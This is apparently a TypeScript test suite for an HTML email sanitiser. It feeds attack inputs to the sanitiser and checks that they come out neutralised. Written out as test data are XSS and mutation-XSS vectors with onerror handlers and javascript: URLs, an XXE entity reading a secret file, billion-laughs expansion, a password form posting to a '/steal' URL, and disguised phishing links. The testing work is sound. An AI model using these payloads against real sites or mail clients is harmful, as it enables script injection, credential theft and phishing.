// Attack catalogue, rows 42 to 51: the HTML body. Every outcome has been through the checker C1-C3, C6, C7; a canary
// listens to whatever would load or call something.
import assert from 'node:assert/strict';
import { after, afterEach, before, describe } from 'node:test';
import { corpus, corpusFiles, row } from '../support/attack-row.ts';
import { openCanary, type Canary } from '../support/canary.ts';
import { openSanitiser, type Outcome, type Sanitiser } from '../support/sanitiser.ts';
import { withinQuiet } from '../support/slowness.ts';

let sanitiser: Sanitiser;
let canary: Canary;
before(async () => {
  [sanitiser, canary] = await Promise.all([openSanitiser(), openCanary()]);
});
afterEach(async () => assert.deepEqual(await canary.touched(), []));
after(async () => {
  await sanitiser[Symbol.asyncDispose]();
  await canary[Symbol.asyncDispose]();
});

const codes = (outcome: Outcome): string[] => outcome.parts.flatMap((part) => part.findings.map(({ code }) => code));
const html = async (body: string): Promise<Outcome> =>
  sanitiser.mail(`From: a@example.com\r\nSubject: s\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}\r\n`);
/** What the reader reads, without our account below it. */
const read = (outcome: Outcome): string => outcome.text.slice(outcome.text.indexOf('\n\n')).split('\n----')[0] ?? '';

/** The vectors of html5lib's sanitiser tests: blocks that begin with `#data`. */
async function loofah(): Promise<string[]> {
  const text = (await corpus('hostile/html-loofah/testdata_sanitizer_tests1.dat')).toString('utf8');
  const vectors = [...text.matchAll(/"input":\s*("(?:[^"\\]|\\.)*")/g)].map(
    ([, json]) => JSON.parse(json ?? '""') as string,
  );
  assert.ok(vectors.length > 20, `${vectors.length} vectors`);
  return vectors;
}

describe('HTML body', () => {
  row(
    42,
    'scripts, handlers and javascript: leave no tag and no code; the vectors of sanitisers end as text',
    async () => {
      const outcome = await html(
        '<p onclick="evil()">shown</p><script>evil1()</script><style>p{x:evil2}</style><a href="javascript:evil3()">link</a><svg onload=evil4()></svg><object data="data:text/html,evil5"></object>',
      );
      assert.match(read(outcome), /shown/);
      assert.doesNotMatch(read(outcome), /evil[0-9]|<script|javascript:/);
      for (const vector of await loofah())
        assert.doesNotMatch(read(await html(vector)), /<script|onerror=|onload=/i, vector);
      assert.equal(
        (await sanitiser.file('bad.html', await corpus('hostile/markup-tika/testHTMLBadScript.html'))).state,
        'sanitised',
      );
    },
  );

  row(43, 'nothing is loaded, by picture, style, font, frame, link or media; and it is told', async () => {
    const url = `http://${canary.host}`;
    const outcome = await html(
      `<link rel=stylesheet href="${url}/a.css"><style>@import "${url}/b.css";@font-face{src:url(${url}/f)}</style><body background="${url}/c"><img src="${url}/d" srcset="${url}/e 2x"><div style="background:url('${url}/g')">shown</div><iframe src="${url}/h"></iframe><video poster="${url}/i" src="${url}/j"></video><object data="${url}/k"></object><embed src="${url}/l"><input type=image src="${url}/m"><base href="${url}/"><img src="n"><picture><source srcset="${url}/o"></picture><link rel=dns-prefetch href="//${canary.host}">`,
    );
    assert.match(read(outcome), /shown/);
    assert.ok(codes(outcome).includes('remote-content'), codes(outcome).join(' '));
    for (const path of ['mail/rspamd/urlimage.eml', 'mail/rspamd/html_template_1.eml'])
      await sanitiser.mail(await corpus(path));
  });

  row(44, 'hidden text is taken out and told; text of no size does not break words', async () => {
    for (const hidden of [
      '<span style="display:none">HIDDEN</span>',
      '<span style="font-size:0">HIDDEN</span>',
      '<p hidden>HIDDEN</p>',
      '<span style="visibility:hidden">HIDDEN</span>',
      '<span style="color:#fff;background:#fff">HIDDEN</span>',
      '<div style="position:absolute;left:-9999px">HIDDEN</div>',
      '<span style="opacity:0">HIDDEN</span>',
    ]) {
      const outcome = await html(`<p>seen</p>${hidden}`);
      const told = codes(outcome).includes('hidden-text');
      assert.ok(told || !/HIDDEN/.test(read(outcome)), `${hidden}: shown and not told`);
    }
    // Hidden by a style sheet, which may mean some screens only: shown to everybody, and told.
    for (const [css, element, told] of [
      ['.x{display:none}', '<b class="a x">', true],
      ['<!-- /* } */ p, td > b.x { color: #fff; background: #FFFFFF } -->', '<b class=x>', true],
      ['#x{font-size:0}', '<i id=x>', true],
      ['b{visibility:hidden}', '<b>', true],
      ['@media print{.y{}} @import "a"; @import "b"; .x{display:none!important}', '<b class=x>', true],
      ['.x{display:none} .x{display:inline}', '<b class=x>', false],
      ['@media (max-width:600px){.x{display:none}}', '<b class=x>', false],
      ['.y{display:none}', '<b class=x>', false],
    ] as const) {
      const sheet = await html(`<style>${css}</style><p>seen ${element}SHOWN</b></p>`);
      assert.match(read(sheet), /seen SHOWN/, css);
      assert.equal(codes(sheet).includes('hidden-by-sheet'), told, css);
    }
    const zero = await html('<p>pass<span style="font-size:0">x</span>word</p>');
    assert.match(read(zero), /password/);
    await sanitiser.mail(await corpus('mail/rspamd/zerofont.eml'));
  });

  row(45, 'data: URLs and pages that build a file are text or nothing', async () => {
    const outcome = await html(
      `<a href="data:text/html;base64,${Buffer.from('<script>evil()</script>').toString('base64')}">open</a><a download="x.exe" href="blob:x">get</a>`,
    );
    assert.doesNotMatch(outcome.text, /data:text|blob:/);
    for (const path of [
      'hostile/markup-tika/testHTML_embedded_data_uri_js.html',
      'hostile/markup-tika/testSrcDoc.html',
    ]) {
      const file = await sanitiser.file('page.html', await corpus(path));
      for (const name of file.files.keys()) assert.match(name, /\.(txt|pdf)$/, path);
    }
  });

  row(46, 'huge and deep trees: 10^5 nested elements, 10^6 nodes, 10^5 attributes, in linear time', async () => {
    for (const [what, body] of [
      ['1 MB of <div>', '<div>'.repeat(200_000)],
      ['10^6 nodes', '<b>x</b>'.repeat(500_000)],
      ['10^5 attributes', `<p ${Array.from({ length: 100_000 }, (_, i) => `a${i}=x`).join(' ')}>x`],
      ['tables in tables', '<table><tr><td>'.repeat(50_000)],
      ['lists in lists', '<ul><li>'.repeat(100_000)],
      ['tags that never close', '<a href="'.repeat(100_000)],
      ['less-thans', '<'.repeat(2_000_000)],
      ['formatting that reopens', '<b><i><p>'.repeat(50_000)],
    ] as const) {
      const outcome = await html(body);
      assert.ok(withinQuiet(outcome.ms, 15_000), `${what}: ${outcome.ms} ms`);
      assert.match(outcome.state, /^(sanitised|refused)$/);
    }
    await sanitiser.mail(await corpus('mail/mailparser/htmllargecallstack.eml'));
    assert.match(read(await html('<p>next</p>')), /next/);
  });

  row(47, 'entities expand to themselves only; no DTD is read; the text is not larger than what came', async () => {
    const lol = `<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}"><!ENTITY e SYSTEM "file://${canary.secretPath}"><!ENTITY f SYSTEM "http://${canary.host}/x">]><p>${'&c;'.repeat(50)}&e;&f;</p>`;
    const outcome = await html(lol);
    assert.ok(read(outcome).length < lol.length * 2);
    assert.ok(!outcome.text.includes(canary.secret));
    const comments = await html(`<!--${'<!-- '.repeat(200_000)}`);
    assert.ok(withinQuiet(comments.ms, 10_000), `${comments.ms} ms`);
    for (const name of ['x.html', 'x.xml'])
      assert.match(
        (await sanitiser.file(name, await corpus('hostile/markup-tika/testXXE.xml'))).state,
        /^(sanitised|refused)$/,
      );
  });

  row(48, 'refresh, base and forms do nothing, and a form is told', async () => {
    const outcome = await html(
      `<meta http-equiv=refresh content="0;url=http://${canary.host}/"><base href="http://${canary.host}/"><form action="http://${canary.host}/steal"><input name=password type=password><button>send</button></form>`,
    );
    assert.ok(codes(outcome).includes('form'), codes(outcome).join(' '));
    await sanitiser.mail(await corpus('mail/rspamd/html_phishing.eml'));
  });

  row(49, 'a link whose text names another host shows where it leads, and is told', async () => {
    const outcome = await html('<a href="http://evil.example/login">https://bank.example/</a>');
    assert.match(read(outcome), /evil\.example/);
    assert.ok(codes(outcome).includes('link-mismatch'));
    await sanitiser.mail(await corpus('mail/rspamd/phishing1.eml'));
  });

  row(50, 'disguised addresses: the host they lead to stands in the text', async () => {
    for (const [href, host] of [
      ['http://bank.example@evil.example/', /evil\.example/],
      ['http://3232235777/', /192\.168\.1\.1|3232235777/],
      ['http://xn--bcher-kva.example/', /xn--bcher-kva\.example|bücher\.example/],
      ['http://\u0430pple.example/', /xn--/],
      [`http://evil.example/${'x'.repeat(20_000)}`, /evil\.example/],
      ['hxxp://evil.example/', /evil\.example|link/],
    ] as const)
      assert.match(read(await html(`<a href="${href}">link</a>`)), host, href.slice(0, 60));
    for (const path of corpusFiles('mail/rspamd', /^url_(?:suspect|obfuscated)_/))
      await sanitiser.mail(await corpus(path));
  });

  row(51, 'markup that reads differently the second time is text: no tag of it is left to be read again', async () => {
    for (const markup of [
      '<svg></p><style><a id="</style><img src=1 onerror=evil()>">',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
      '<noscript><p title="</noscript><img src=x onerror=evil()>">',
      '<![CDATA[<img src=x onerror=evil()>]]>',
      '<!--[if mso]><img src=x onerror=evil()><![endif]-->',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>',
      '<template><script>evil()</script></template>',
      '<textarea><script>evil()</script>',
      '<xmp><img onerror=evil()>',
      '<plaintext><img onerror=evil()>',
    ]) {
      const outcome = await html(`<p>seen</p>${markup}`);
      for (const name of outcome.files.keys()) assert.equal(name, 'message.txt', markup);
    }
    for (const path of ['mail/mimekit-html/cdata.html', 'mail/mimekit-html/badly-quoted-attr.html'])
      assert.equal((await sanitiser.file('x.html', await corpus(path))).state, 'sanitised');
  });
});
